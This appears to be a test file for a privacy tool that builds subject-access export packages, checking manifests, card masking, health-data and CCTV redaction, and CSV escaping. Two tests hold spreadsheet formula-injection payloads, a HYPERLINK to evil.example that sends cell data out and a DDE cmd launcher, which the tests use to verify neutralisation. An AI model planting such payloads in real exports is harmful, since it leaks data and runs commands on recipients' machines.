import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { FieldDescription, SourceRecord } from '../../../connectors/contract.js';
import { DataCategory, IdentifierType, RecordAction, Relationship, SourceKind } from '../../../src/domain/vocabulary.js';
import { buildAccessPackage, mayReceivePackage, verifyManifest, type AccessPackageInput, type PackageSource } from '../../../src/requests/access-package.js';
import { RequestRuleError } from '../../../src/requests/errors.js';
import { containsCardNumber } from '../../../src/requests/redaction.js';
import { retention } from './fixtures.js';

const generatedAt = new Date('2025-06-01T12:00:00Z');
const release = (recordId: string) => ({ recordId, action: RecordAction.RELEASE, reason: 'copy' });

const conciergeFields: FieldDescription[] = [
  { recordType: 'member', field: 'card', categories: [DataCategory.PAYMENT_CARD], special: false, correctable: false },
  { recordType: 'member', field: 'notes', categories: [DataCategory.SERVICE_HISTORY], special: false, correctable: true },
  { recordType: 'member', field: 'phone', categories: [DataCategory.CONTACT], special: false, correctable: true, identifierType: IdentifierType.PHONE },
  { recordType: 'member', field: 'email', categories: [DataCategory.CONTACT], special: false, correctable: true, identifierType: IdentifierType.EMAIL },
];
const concierge: PackageSource = {
  source: { id: 'src-concierge', name: 'Concierge', kind: SourceKind.CONCIERGE },
  fields: conciergeFields,
  retention: retention.concierge,
  records: [
    {
      recordId: 'm-1',
      recordType: 'member',
      relationship: Relationship.SUBJECT,
      identifiers: [{ type: IdentifierType.EMAIL, value: 'ana@example.org' }],
      // a connector that forgot to mask the card, and a card number typed into free text
      data: { card: '4111 1111 1111 1111', notes: 'paid with 5500000000000004, "late", checked', phone: '+442079460958', email: 'ana@example.org' },
      dates: { lastActivityAt: '2025-01-01T00:00:00Z' },
    },
  ],
  decisions: [release('m-1')],
};

const clinicFields: FieldDescription[] = [
  { recordType: 'consultation', field: 'diagnosis', categories: [DataCategory.HEALTH], special: true, correctable: false },
  { recordType: 'consultation', field: 'date', categories: [DataCategory.SERVICE_HISTORY], special: false, correctable: false },
];
const clinic: PackageSource = {
  source: { id: 'src-clinic', name: 'Clinic (medical records)', kind: SourceKind.CLINIC },
  fields: clinicFields,
  retention: retention.clinic,
  records: [
    {
      recordId: 'c-1',
      recordType: 'consultation',
      relationship: Relationship.SUBJECT,
      identifiers: [],
      data: { diagnosis: 'asthma', date: '2024-02-02' },
      dates: {},
    },
    {
      recordId: 'c-2',
      recordType: 'consultation',
      relationship: Relationship.SUBJECT,
      identifiers: [],
      data: { diagnosis: 'x', date: '2024-03-03' },
      dates: {},
      controllerId: 'employer-1',
    },
  ],
  decisions: [
    release('c-1'),
    { recordId: 'c-2', action: RecordAction.RETAIN, basis: 'awaiting the controller’s instruction', reason: 'Held for a controller' },
  ],
};

const cctvFields: FieldDescription[] = [
  { recordType: 'clip', field: 'site', categories: [DataCategory.VISIT], special: false, correctable: false },
  { recordType: 'clip', field: 'video', categories: [DataCategory.VIDEO], special: false, correctable: false },
];
const clip = (recordId: string, facts: SourceRecord['facts']): SourceRecord => ({
  recordId,
  recordType: 'clip',
  relationship: Relationship.VISITOR,
  identifiers: [],
  data: { site: 'London office', video: `blob://${recordId}` },
  dates: { lastActivityAt: '2025-05-20T10:00:00Z' },
  facts,
});
const cctv: PackageSource = {
  source: { id: 'src-cctv', name: 'CCTV', kind: SourceKind.CCTV },
  fields: cctvFields,
  retention: retention.cctv,
  records: [clip('v-1', { bystanders: 2 }), clip('v-2', { bystanders: 0 }), clip('v-3', { bystanders: 1, redacted: true })],
  decisions: [release('v-1'), release('v-2'), release('v-3')],
};

const input: AccessPackageInput = {
  requestId: 'req-42',
  generatedAt,
  verifiedAt: new Date('2025-05-20T09:00:00Z'),
  sources: [concierge, clinic, cctv],
  canSeeSpecialCategories: false,
};

function files(bytes: Uint8Array): Record<string, string> {
  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([k, v]) => [k, strFromU8(v)]));
}

describe('access package', () => {
  const pkg = buildAccessPackage(input);
  const out = files(pkg.bytes);

  it('R1: holds one JSON and one CSV per source, a manifest and a readable summary', () => {
    expect(Object.keys(out).sort()).toEqual([
      'manifest.json',
      'sources/01-concierge.csv',
      'sources/01-concierge.json',
      'sources/02-clinic-medical-records.csv',
      'sources/02-clinic-medical-records.json',
      'sources/03-cctv.csv',
      'sources/03-cctv.json',
      'summary.txt',
    ]);
    const json = JSON.parse(out['sources/01-concierge.json']!);
    expect(json.source).toEqual({ id: 'src-concierge', name: 'Concierge', kind: 'CONCIERGE' });
    expect(json.records[0].identifiers).toEqual([{ type: 'EMAIL', value: 'ana@example.org' }]);
    expect(out['sources/01-concierge.csv']!.split('\r\n')[0]).toBe(
      'record_id,record_type,relationship,parent_record_id,field,value,categories,special_category,note',
    );
  });

  it('the manifest holds the SHA-256 of every other file, and verifyManifest agrees', () => {
    const manifest = JSON.parse(out['manifest.json']!);
    const raw = unzipSync(pkg.bytes);
    expect(manifest.files.map((f: { path: string }) => f.path).sort()).toEqual(
      Object.keys(raw)
        .filter((p) => p !== 'manifest.json')
        .sort(),
    );
    for (const f of manifest.files) {
      expect(f.sha256).toBe(createHash('sha256').update(raw[f.path]!).digest('hex'));
    }
    expect(verifyManifest(pkg.bytes)).toMatchObject({ ok: true, mismatched: [], missing: [], unlisted: [] });
  });

  it('verifyManifest reports a changed, a missing and an extra file; unreadable input is INVALID_PACKAGE', () => {
    const raw = unzipSync(pkg.bytes);
    raw['sources/03-cctv.csv'] = strToU8('tampered');
    delete raw['summary.txt'];
    raw['extra.txt'] = strToU8('hi');
    const check = verifyManifest(zipSync(raw));
    expect(check).toMatchObject({ ok: false, mismatched: ['sources/03-cctv.csv'], missing: ['summary.txt'], unlisted: ['extra.txt'] });
    expect(() => verifyManifest(new Uint8Array([1, 2, 3]))).toThrow(RequestRuleError);
    const noManifest = unzipSync(pkg.bytes);
    delete noManifest['manifest.json'];
    expect(() => verifyManifest(zipSync(noManifest))).toThrow(/no manifest.json/);
  });

  it('R15: card numbers show at most the last four digits, even when the connector forgot to mask', () => {
    const all = Object.values(out).join('\n');
    expect(all).not.toContain('4111 1111 1111 1111');
    expect(all).not.toContain('5500000000000004');
    const json = JSON.parse(out['sources/01-concierge.json']!);
    expect(json.records[0].data.card).toBe('**** **** **** 1111');
    expect(json.records[0].data.notes).toContain('************0004');
    // a phone number in international form is not a card
    expect(json.records[0].data.phone).toBe('+442079460958');
    for (const [path, text] of Object.entries(out)) expect(containsCardNumber(text), path).toBe(false);
    expect(out['summary.txt']).toContain('last four digits');
  });

  it('R12: special-category fields are marked, and redacted unless the caller may see them', () => {
    const hidden = JSON.parse(out['sources/02-clinic-medical-records.json']!).records[0];
    expect(hidden.data.diagnosis).toBe('[REDACTED]');
    expect(hidden.fields.diagnosis).toEqual({ categories: ['HEALTH'], special: true, described: true });
    expect(hidden.redactions[0]).toMatchObject({ field: 'diagnosis', kind: 'SPECIAL_CATEGORY' });
    expect(out['sources/02-clinic-medical-records.csv']).not.toContain('asthma');
    const shown = files(buildAccessPackage({ ...input, canSeeSpecialCategories: true }).bytes);
    const record = JSON.parse(shown['sources/02-clinic-medical-records.json']!).records[0];
    expect(record.data.diagnosis).toBe('asthma');
    expect(record.fields.diagnosis.special).toBe(true);
    expect(shown['sources/02-clinic-medical-records.csv']).toMatch(/c-1,consultation,SUBJECT,,diagnosis,asthma,HEALTH,true,/);
  });

  it('R16: CCTV frames showing other people are withheld (or marked redacted) and listed', () => {
    const json = JSON.parse(out['sources/03-cctv.json']!);
    const [v1, v2, v3] = json.records;
    expect(v1.data).toEqual({ site: 'London office', video: '[WITHHELD]' });
    expect(v1.redactions).toEqual([{ field: 'video', kind: 'OTHER_PEOPLE', reason: 'shows other people (R16)' }]);
    expect(v2.data.video).toBe('blob://v-2');
    expect(v3.data.video).toBe('blob://v-3');
    expect(v3.notes[0]).toMatch(/blurred or cut/);
    expect(out['summary.txt']).toContain('Record v-1: Frames showing 2 other people are withheld');
    expect(out['sources/03-cctv.csv']).toContain('v-1,clip,VISITOR,,video,[WITHHELD],VIDEO,false,shows other people (R16)');
  });

  it('records not decided RELEASE are listed as withheld with the reason, not copied', () => {
    const json = JSON.parse(out['sources/02-clinic-medical-records.json']!);
    expect(json.records.map((r: { recordId: string }) => r.recordId)).toEqual(['c-1']);
    expect(json.withheld).toEqual([
      { recordId: 'c-2', recordType: 'consultation', action: 'RETAIN', reason: 'Held for a controller', basis: 'awaiting the controller’s instruction' },
    ]);
    expect(out['summary.txt']).toContain('Not included: consultation c-2: Held for a controller');
  });

  it('the summary says what was found, where, why it is held and for how long', () => {
    const s = out['summary.txt']!;
    expect(s).toContain('req-42');
    expect(s).toContain('found 6 records');
    expect(s).toMatch(/2\. Clinic \(medical records\)\n {3}Files: sources\/02-clinic-medical-records.json/);
    expect(s).toContain('How long we keep it: 3 years, then 30 years archive');
    expect(s).toContain('Why we hold it: to keep our premises');
    expect(s).toContain('1 special-category field(s) are shown as [REDACTED]');
  });

  it('R2: no package before identity verification', () => {
    try {
      buildAccessPackage({ ...input, verifiedAt: null });
      expect.unreachable();
    } catch (e) {
      expect((e as RequestRuleError).code).toBe('IDENTITY_NOT_VERIFIED');
    }
  });

  it('is deterministic and quotes CSV cells safely', () => {
    expect(buildAccessPackage(input).sha256).toBe(pkg.sha256);
    const csv = out['sources/01-concierge.csv']!;
    expect(csv).toContain('"paid with ************0004, ""late"", checked"');
    const evil = buildAccessPackage({
      ...input,
      sources: [{ ...concierge, records: [{ ...concierge.records[0]!, data: { notes: '=HYPERLINK("x")', phone: '+44 20' } }] }],
    });
    const evilCsv = files(evil.bytes)['sources/01-concierge.csv']!;
    expect(evilCsv).toContain(`"'=HYPERLINK(""x"")"`);
    expect(evilCsv).toContain(',+44 20,');
  });

  // Excel runs a cell typed as +… or -… as a formula too: a number in front does not make it data.
  it('a value that starts with + or - is opened with a quote mark unless it is a number or a phone number', () => {
    const leak = '-1+HYPERLINK("http://evil.example/?"&B2,"Open")';
    const dde = "+1-cmd|' /C calc'!A0";
    const pkg = buildAccessPackage({
      ...input,
      sources: [{ ...concierge, records: [{ ...concierge.records[0]!, data: { notes: leak, memo: dde, phone: '+44 20 7946 0958', balance: '-12.50' } }] }],
    });
    const csv = files(pkg.bytes)['sources/01-concierge.csv']!;
    expect(csv).toContain(`,"'-1+HYPERLINK(""http://evil.example/?""&B2,""Open"")",`);
    expect(csv).toContain(`,'+1-cmd|' /C calc'!A0,`);
    expect(csv).toContain(',+44 20 7946 0958,');
    expect(csv).toContain(',-12.50,');
  });

  it('R12: the package lists per source its record types and categories, and every special category it holds in clear', () => {
    const complete = buildAccessPackage({ ...input, canSeeSpecialCategories: true });
    expect(complete.specialCategories).toEqual([DataCategory.HEALTH]);
    const clinicContents = complete.contents.find((c) => c.sourceId === 'src-clinic')!;
    expect(clinicContents.recordTypes).toEqual([{ recordType: 'consultation', released: 1, withheld: 1 }]);
    expect(clinicContents.specialCategories).toEqual([DataCategory.HEALTH]);
    expect(complete.contents.find((c) => c.sourceId === 'src-concierge')!.specialCategories).toEqual([]);
    // Redacted fields are not in the archive: a redacted package holds none in clear.
    expect(pkg.specialCategories).toEqual([]);
  });

  it('R12: a nested row described under its parent field (monitoring.ethnicity) makes the field special', () => {
    const monitored: PackageSource = {
      source: { id: 'src-rec', name: 'Recruitment', kind: SourceKind.RECRUITMENT },
      fields: [{ recordType: 'candidate', field: 'monitoring.ethnicity', categories: [DataCategory.ETHNICITY], special: true, correctable: false }],
      records: [
        {
          recordId: 'r-1',
          recordType: 'candidate',
          relationship: Relationship.SUBJECT,
          identifiers: [],
          data: { monitoring: [{ ethnicity: 'x' }] },
          dates: {},
        },
      ],
      decisions: [release('r-1')],
    };
    const built = buildAccessPackage({ ...input, sources: [monitored], canSeeSpecialCategories: true });
    expect(built.specialCategories).toEqual([DataCategory.ETHNICITY]);
    const hidden = buildAccessPackage({ ...input, sources: [monitored], canSeeSpecialCategories: false });
    expect(files(hidden.bytes)['sources/01-recruitment.csv']).toContain('[REDACTED]');
  });

  it('R12: nested rows whose fields are described under their own record type make the field special, as discovery judges them', () => {
    const visited: PackageSource = {
      source: { id: 'src-register', name: 'Register', kind: SourceKind.OTHER },
      fields: [
        { recordType: 'patient', field: 'visits', categories: [DataCategory.SERVICE_HISTORY], special: false, correctable: false },
        { recordType: 'visit', field: 'on', categories: [DataCategory.SERVICE_HISTORY], special: false, correctable: false },
        { recordType: 'visit', field: 'diagnosis', categories: [DataCategory.HEALTH], special: true, correctable: false },
      ],
      records: [
        {
          recordId: 'p-1',
          recordType: 'patient',
          relationship: Relationship.SUBJECT,
          identifiers: [],
          data: { visits: [{ on: '2026-03-02', diagnosis: 'asthma' }] },
          dates: {},
        },
      ],
      decisions: [release('p-1')],
    };
    // Counted, so the package's link goes only to a principal cleared for health data.
    const built = buildAccessPackage({ ...input, sources: [visited], canSeeSpecialCategories: true });
    expect(built.specialCategories).toEqual([DataCategory.HEALTH]);
    expect(mayReceivePackage(built.specialCategories, false)).toBe(false);
    const hidden = buildAccessPackage({ ...input, sources: [visited], canSeeSpecialCategories: false });
    expect(files(hidden.bytes)['sources/01-register.csv']).not.toContain('asthma');
  });

  it('R12: only a principal cleared for special categories may receive a package holding them, or one whose categories are unknown', () => {
    expect(mayReceivePackage([], false)).toBe(true);
    expect(mayReceivePackage(['HEALTH'], false)).toBe(false);
    expect(mayReceivePackage(null, false)).toBe(false);
    expect(mayReceivePackage(['HEALTH'], true)).toBe(true);
    expect(mayReceivePackage(null, true)).toBe(true);
  });
});

describe('R16: a person’s appearance in another person’s record', () => {
  const contactFields: FieldDescription[] = [
    {
      recordType: 'emergency_contact',
      field: 'given_name',
      categories: [DataCategory.IDENTITY],
      special: false,
      correctable: true,
      identifierType: IdentifierType.GIVEN_NAME,
    },
    { recordType: 'referee', field: 'statement', categories: [DataCategory.REFERENCE], special: false, correctable: false },
  ];
  const appearances: PackageSource = {
    source: { id: 'src-register', name: 'Register', kind: SourceKind.OTHER },
    fields: contactFields,
    records: [
      {
        recordId: 'EC-7',
        recordType: 'emergency_contact',
        relationship: Relationship.EMERGENCY_CONTACT,
        parentRecordId: 'PAT-000123',
        identifiers: [{ type: IdentifierType.GIVEN_NAME, value: 'Ana' }],
        data: { id: 'EC-7', patient_id: 'PAT-000123', given_name: 'Ana', relation: 'sister' },
        dates: {},
      },
      // The generic SQL source names the parent `recordType:id`; the row holds the id alone, here a number.
      {
        recordId: 'referee:91',
        recordType: 'referee',
        relationship: Relationship.REFERENCE,
        parentRecordId: 'candidate:4417',
        identifiers: [],
        data: { id: 91, candidate_ref: 4417, statement: 'reliable' },
        dates: {},
      },
      // The person's own certificate keeps pointing at their own learner record.
      {
        recordId: 'CERT-1',
        recordType: 'certificate',
        relationship: Relationship.SUBJECT,
        parentRecordId: 'LRN-55',
        identifiers: [],
        data: { learner_ref: 'LRN-55', course: 'first aid' },
        dates: {},
      },
    ],
    decisions: [release('EC-7'), release('referee:91'), release('CERT-1')],
  };
  const built = files(buildAccessPackage({ ...input, sources: [appearances] }).bytes);
  const json = JSON.parse(built['sources/01-register.json']!);
  const byId = (id: string) => json.records.find((r: { recordId: string }) => r.recordId === id);

  it('R16: the copy names neither the patient’s nor the candidate’s record, in no file', () => {
    const all = Object.values(built).join('\n');
    expect(all).not.toContain('PAT-000123');
    expect(all).not.toMatch(/4417/);
  });

  it('R16: it says the record is about another person instead, and keeps the person’s own data', () => {
    const contact = byId('EC-7');
    expect(contact.parentRecordId).toBeUndefined();
    expect(contact.partOf).toBe('a record about another person');
    expect(contact.data).toEqual({ id: 'EC-7', patient_id: "[ANOTHER PERSON'S RECORD]", given_name: 'Ana', relation: 'sister' });
    expect(contact.redactions).toEqual([{ field: 'patient_id', kind: 'OTHER_PEOPLE', reason: 'names a record about another person (R16)' }]);
    expect(byId('referee:91').data).toEqual({ id: 91, candidate_ref: "[ANOTHER PERSON'S RECORD]", statement: 'reliable' });
    expect(built['sources/01-register.csv']).toContain('EC-7,emergency_contact,EMERGENCY_CONTACT,a record about another person,given_name,Ana');
    expect(built['summary.txt']).toContain('Record EC-7: You appear in a record about another person; that record is not named in this copy.');
  });

  it('R16: the person’s own record still names its own parent', () => {
    expect(byId('CERT-1')).toMatchObject({ parentRecordId: 'LRN-55', data: { learner_ref: 'LRN-55' } });
  });
});

describe('R15: card numbers used as identifiers, or written with dots or odd spacing', () => {
  const cardFields: FieldDescription[] = [
    {
      recordType: 'member',
      field: 'card_number',
      categories: [DataCategory.PAYMENT_CARD],
      special: false,
      correctable: false,
      identifierType: IdentifierType.MEMBERSHIP_NUMBER,
    },
    { recordType: 'member', field: 'notes', categories: [DataCategory.SERVICE_HISTORY], special: false, correctable: true },
    { recordType: 'member', field: 'phone', categories: [DataCategory.CONTACT], special: false, correctable: true, identifierType: IdentifierType.PHONE },
    {
      recordType: 'member',
      field: 'employee_id',
      categories: [DataCategory.EMPLOYMENT],
      special: false,
      correctable: false,
      identifierType: IdentifierType.EMPLOYEE_ID,
    },
  ];
  const cards: PackageSource = {
    source: { id: 'src-cards', name: 'Cards', kind: SourceKind.CONCIERGE },
    fields: cardFields,
    records: [
      {
        recordId: 'm-9',
        recordType: 'member',
        relationship: Relationship.SUBJECT,
        identifiers: [
          { type: IdentifierType.MEMBERSHIP_NUMBER, value: '4111111111111111' },
          // A type the source does not describe: looked at like an undescribed field.
          { type: IdentifierType.BADGE_ID, value: '5500 0000 0000 0004' },
          { type: IdentifierType.PHONE, value: '447700900123' },
          { type: IdentifierType.EMPLOYEE_ID, value: '100200300400' },
        ],
        data: {
          notes: 'paid with 4111.1111.1111.1111 then 5500 00 00 0000 0004 and 3782-822463-10005',
          phone: '447700900123',
          employee_id: '100200300400',
        },
        dates: {},
      },
    ],
    decisions: [release('m-9')],
  };
  const built = files(buildAccessPackage({ ...input, sources: [cards] }).bytes);
  const record = JSON.parse(built['sources/01-cards.json']!).records[0];

  it('R15: a card number listed as an identifier shows its last four digits only, in the JSON and the CSV', () => {
    expect(record.identifiers).toEqual([
      { type: 'MEMBERSHIP_NUMBER', value: '************1111' },
      { type: 'BADGE_ID', value: '**** **** **** 0004' },
      { type: 'PHONE', value: '447700900123' },
      { type: 'EMPLOYEE_ID', value: '100200300400' },
    ]);
    expect(built['sources/01-cards.csv']).not.toContain('4111111111111111');
    expect(built['sources/01-cards.csv']).not.toContain('5500 0000 0000 0004');
  });

  it('R15: card numbers written with dots, or grouped oddly, are masked too; phone and employee numbers are not', () => {
    expect(record.data.notes).toBe('paid with ****.****.****.1111 then **** ** ** **** 0004 and ****-******-*0005');
    expect(record.data.phone).toBe('447700900123');
    expect(record.data.employee_id).toBe('100200300400');
    const all = Object.values(built).join('\n');
    for (const full of ['4111.1111.1111.1111', '5500 00 00 0000 0004', '3782-822463-10005']) expect(all).not.toContain(full);
    expect(containsCardNumber(record.data.notes)).toBe(false);
    expect(containsCardNumber('card 4111.1111.1111.1111')).toBe(true);
    expect(built['summary.txt']).toContain('last four digits');
  });
});
